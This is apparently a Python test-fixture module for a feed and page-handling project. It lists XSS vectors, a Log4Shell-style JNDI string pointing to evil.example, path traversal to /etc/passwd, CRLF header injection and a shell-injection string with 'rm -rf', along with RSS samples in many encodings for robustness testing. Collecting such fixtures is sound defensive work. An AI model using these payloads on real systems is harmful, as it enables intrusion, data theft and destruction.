"""What strangers write to break pages, searches and readers: vectors of our own, and published collections where they are at hand.

The collections belong to others and are not in this repository; `../shared/corpus` beside the checkout holds them where a machine
has them. What is written here is our own (CC0-1.0) and is tried on every machine.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

CORPUS = Path(__file__).parents[2] / "shared" / "corpus"
_SCRIPTS = CORPUS / "dompurify-fixtures" / "expect.json"
_NAUGHTY = CORPUS / "naughty-strings" / "blns.json"

SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)", "{{7*7}}{% raw %}",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "'-alert(1)-'", "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "\u202egnp.exe",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<details open ontoggle=alert(1)>x</details>",
    "<a href='java\tscript:alert(1)'>x</a>", "</script><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='//evil.example/'>", "<object data='data:text/html,x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "&lt;img src=x onerror=alert(1)&gt;",
    '" autofocus onfocus=alert(1) x="', "data:text/html,<script>alert(1)</script>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
)  # fmt: skip
"""Markup and addresses that would act if a page took them as its own."""
NAUGHTY = (
    "NULL", "undefined", "0x7fffffffffffffff", "-1e400", "1,5 / 0", "''''\"", "%00%0d%0aSet-Cookie: a=b", "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd%00", "a\u0300\u0301\u0302\u0316" * 20, "\u200b\u200d\ufeff", "\u202eabc\u202c", "ﬃ ǅ ß İ ı", "नी 각 กำ",
    "👩‍👩‍👧‍👦🏳️‍🌈🇰🇷", "\ue000\ufffe\U0010ffff", "title:\\", "[[:alpha:]]{9999}", "`rm -rf .` $(id) ; true", "\r\n.\r\nQUIT\r\n",
)  # fmt: skip
"""What people type, paste and import that programs have stumbled over."""


@dataclass(frozen=True)
class Encoded:
    """A feed document in some encoding: how it is packed, what it and the server say of it, and what its title is."""

    name: str
    title: str
    codec: str
    declared: str = ""
    served: str = "text/xml"

    @property
    def document(self) -> bytes:
        head = f'<?xml version="1.0" encoding="{self.declared}"?>' if self.declared else ""
        item = f"<item><title>{self.title}</title><link>https://a.example/1</link></item>"
        body = f"{head}<rss version='2.0'><channel><title>{self.title}</title>{item}</channel></rss>"
        return body.encode(self.codec)


ENCODED = (
    Encoded("UTF-8 that nobody names", "Zażółć 漢字 북한", "utf-8"),
    Encoded("UTF-8 with its mark", "Zażółć 漢字 북한", "utf-8-sig", "utf-8"),
    Encoded("UTF-16 with its mark", "Zażółć 漢字 북한", "utf-16", "utf-16"),
    Encoded("Latin 1", "Café à Liège", "iso-8859-1", "iso-8859-1"),
    Encoded("the quotation marks of Windows under the name of Latin 1", "“Café” – 5 €", "windows-1252", "iso-8859-1"),
    Encoded("Windows for Cyrillic", "Москва против договора", "windows-1251", "windows-1251"),
    Encoded("KOI8-R", "Москва против договора", "koi8-r", "KOI8-R"),
    Encoded("Central European", "Příliš žluťoučký kůň", "iso-8859-2", "iso-8859-2"),
    Encoded("EUC-KR", "북한, 훈련을 규탄", "euc-kr", "euc-kr"),
    Encoded("Shift JIS", "北朝鮮が演習を非難", "shift_jis", "Shift_JIS"),
    Encoded("GB 18030 under the name of GB 2312", "朝鲜谴责军演 镕", "gb18030", "gb2312"),
    Encoded("Big5", "北韓譴責軍演", "big5", "big5"),
    Encoded("EUC-JP that only the server names", "北朝鮮が演習を非難", "euc-jp", served="text/xml; charset=EUC-JP"),
)


def scripts() -> list[str]:
    """Ours and, where they are at hand, the 223 that DOMPurify is tested with."""
    theirs = json.loads(_SCRIPTS.read_text(encoding="utf-8")) if _SCRIPTS.exists() else []
    return [*SCRIPTS, *(str(one["payload"]) for one in theirs)]


def naughty() -> list[str]:
    """Ours and, where it is at hand, the Big List of Naughty Strings."""
    theirs = json.loads(_NAUGHTY.read_text(encoding="utf-8")) if _NAUGHTY.exists() else []
    return [*NAUGHTY, *(one for one in theirs if isinstance(one, str))]
